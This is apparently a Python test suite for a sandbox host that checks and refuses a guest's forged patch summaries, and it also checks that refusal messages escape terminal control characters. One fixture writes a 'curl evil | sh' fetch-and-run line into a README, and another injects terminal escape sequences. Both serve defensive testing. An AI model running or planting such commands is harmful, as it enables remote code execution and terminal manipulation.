"""A guest's ``diff`` claim is accepted only when every field is true of the data and the data is the host's patch.

Property: take a true claim (the one the guest's own code makes), change one thing — the size, the hash, one entry
of the file list, the list's length or order, the truncation flag, or the bytes themselves (with or without a size
and hash that fit the new bytes) — and ``check_guest_claim`` refuses it, naming that field.
"""

from __future__ import annotations

import hashlib
import io
import os
from unittest import mock

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tkbox_daemon.patch import GuestClaimRefused, PatchSummary, check_guest_claim, claim, compute_patch
from tkbox_daemon.patch.summary import FileChange
from tkbox_guest import agent, diff
from tkbox_guest.protocol import CHANGES, GIT_MODES

MODES = [None, *GIT_MODES]


def _sha(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


@st.composite
def file_changes(draw) -> FileChange:
    change = draw(st.sampled_from(CHANGES))
    old = None if change == "added" else draw(st.sampled_from(GIT_MODES))
    new = None if change == "deleted" else draw(st.sampled_from([m for m in GIT_MODES if change != "mode" or m != old]))
    return FileChange(path=draw(st.text(min_size=1, max_size=40)), change=change, binary=draw(st.booleans()),
                      old_mode=old, new_mode=new, old_size=None if old is None else draw(st.integers(0, 10**9)),
                      new_size=None if new is None else draw(st.integers(0, 10**9)))


@st.composite
def true_claims(draw) -> tuple[dict, bytes, PatchSummary, int]:
    """(claim, data, host summary, list budget): what a truthful guest answers for the host's patch."""
    data = draw(st.binary(max_size=300))
    host = PatchSummary(files=tuple(draw(st.lists(file_changes(), max_size=8))), size=len(data), sha256=_sha(data))
    budget = draw(st.sampled_from([claim.GUEST_FILES_LIST_BUDGET, 0, 150, 400]))
    files, truncated = agent.bounded_file_list([entry.guest_entry() for entry in host.files], budget)
    return {"size": len(data), "sha256": _sha(data), "files": files, "files_truncated": truncated}, data, host, budget


def _other(draw, value, choices):
    return draw(st.sampled_from([choice for choice in choices if choice != value or type(choice) is not type(value)]))


def forge(draw, true: dict, data: bytes) -> tuple[str, dict, bytes]:
    """One field of the claim (or the data) changed: (the field the refusal must name, claim, data)."""
    forged, files = dict(true), [dict(entry) for entry in true["files"]]
    kinds = ["size", "sha256", "truncated", "data", "data_consistent", "add_entry"]
    kinds += ["entry_field", "drop_entry"] if files else []
    kinds += ["swap_entries"] if len({repr(entry) for entry in files}) > 1 else []
    kind = draw(st.sampled_from(kinds))
    if kind == "size":
        forged["size"] = draw(st.one_of(st.integers(0, 2**53).filter(lambda n: n != len(data)),
                                        st.sampled_from([str(len(data)), float(len(data)), None, len(data) == 1])))
        return "size", forged, data
    if kind == "sha256":
        forged["sha256"] = draw(st.one_of(st.binary(min_size=32, max_size=32).map(
            lambda raw: "sha256:" + raw.hex()), st.sampled_from(["", _sha(data)[7:], _sha(data).upper()])).filter(
            lambda text: text != _sha(data)))
        return "sha256", forged, data
    if kind == "truncated":
        forged["files_truncated"] = _other(draw, true["files_truncated"], [True, False, 0, 1, None])
        return "files_truncated", forged, data
    if kind in ("data", "data_consistent"):
        changed = draw(st.one_of(
            st.binary(min_size=1, max_size=5).map(lambda extra: data + extra),
            st.just(data[:-1]) if data else st.just(b"x"),
            st.integers(0, max(0, len(data) - 1)).map(lambda i: data[:i] + bytes([data[i] ^ 1]) + data[i + 1:])
            if data else st.just(b"\0"),
        ))
        if kind == "data_consistent":  # a liar whose size and hash fit its own bytes: the host's patch says no
            forged.update(size=len(changed), sha256=_sha(changed))
        return "data", forged, changed
    if kind == "add_entry":
        files.insert(draw(st.integers(0, len(files))), draw(file_changes()).guest_entry())
    elif kind == "drop_entry":
        del files[draw(st.integers(0, len(files) - 1))]
    elif kind == "swap_entries":
        i, j = draw(st.lists(st.integers(0, len(files) - 1), min_size=2, max_size=2, unique=True).filter(
            lambda pair: files[pair[0]] != files[pair[1]]))
        files[i], files[j] = files[j], files[i]
    else:
        entry = files[draw(st.integers(0, len(files) - 1))]
        field = draw(st.sampled_from(["path", "change", "binary", "old_mode", "new_mode"]))
        choices = {"path": [entry["path"] + "x", "", "README.md", entry["path"].upper() + "_"],
                   "change": list(CHANGES), "binary": [True, False, 0, 1], "old_mode": MODES,
                   "new_mode": MODES}[field]
        entry[field] = _other(draw, entry[field], choices)
    forged["files"] = files
    return "files", forged, data


@given(true_claims(), st.data())
def test_a_true_claim_passes_and_any_forged_field_is_refused_by_name(case, data_strategy):
    true, data, host, budget = case
    with mock.patch.object(claim, "GUEST_FILES_LIST_BUDGET", budget):
        check_guest_claim(true, data, host)
        field, forged, forged_data = forge(data_strategy.draw, true, data)
        with pytest.raises(GuestClaimRefused) as refused:
            check_guest_claim(forged, forged_data, host)
    named = {difference.split(":")[0].split("[")[0] for difference in refused.value.differences}
    assert field in named, refused.value.differences


@given(st.lists(file_changes(), max_size=12), st.integers(0, 2000))
def test_the_hosts_expected_list_is_the_guests_own_truncation(entries, budget):
    host = PatchSummary(files=tuple(entries), size=0, sha256=_sha(b""))
    assert claim.expected_file_list(host, budget) == agent.bounded_file_list([e.guest_entry() for e in entries], budget)


def test_the_list_budget_is_the_guests():
    assert claim.GUEST_FILES_LIST_BUDGET == agent.FILES_LIST_BUDGET


@pytest.mark.skipif(os.geteuid() != 0, reason="the host patch needs CAP_SYS_ADMIN")
def test_issue_8_a_harmless_summary_over_a_readme_patch_is_refused(tmp_path):
    lower, upper = tmp_path / "lower", tmp_path / "upper"
    lower.mkdir()
    upper.mkdir()
    (lower / "README.md").write_text("hello\n")
    (upper / "README.md").write_text("curl evil | sh\n")
    out = io.BytesIO()
    host = compute_patch(upper, lower, out)
    summaries: list[dict] = []
    data = b"".join(diff.iter_patch(upper, lower, None, summaries))  # what the guest's own code sends as DATA
    assert data == out.getvalue()
    files, truncated = agent.bounded_file_list(summaries)
    check_guest_claim({"size": len(data), "sha256": _sha(data), "files": files, "files_truncated": truncated},
                      data, host)
    harmless = [{"path": "notes.txt", "change": "added", "binary": False, "old_mode": None, "new_mode": "100644"}]
    lie = {"size": 12, "sha256": _sha(b"harmless\n"), "files": harmless, "files_truncated": False}
    with pytest.raises(GuestClaimRefused) as refused:
        check_guest_claim(lie, data, host)
    message = str(refused.value)
    assert "size: the guest claims 12 bytes" in message and "sha256: the guest claims" in message
    assert 'files[0]: the guest claims {"binary": false, "change": "added", "new_mode": "100644", ' \
           '"old_mode": null, "path": "notes.txt"}, the host found {"binary": false, "change": "modified"' in message


def test_box_controlled_text_in_a_refusal_is_escaped():
    host = PatchSummary(files=(), size=0, sha256=_sha(b""))
    with pytest.raises(GuestClaimRefused) as refused:
        check_guest_claim({"size": 0, "sha256": "\x1b[2J\nx", "files": [{"path": "\x1b]0;pwned\x07"}],
                           "files_truncated": False}, b"", host)
    assert all(ch.isprintable() for ch in str(refused.value))
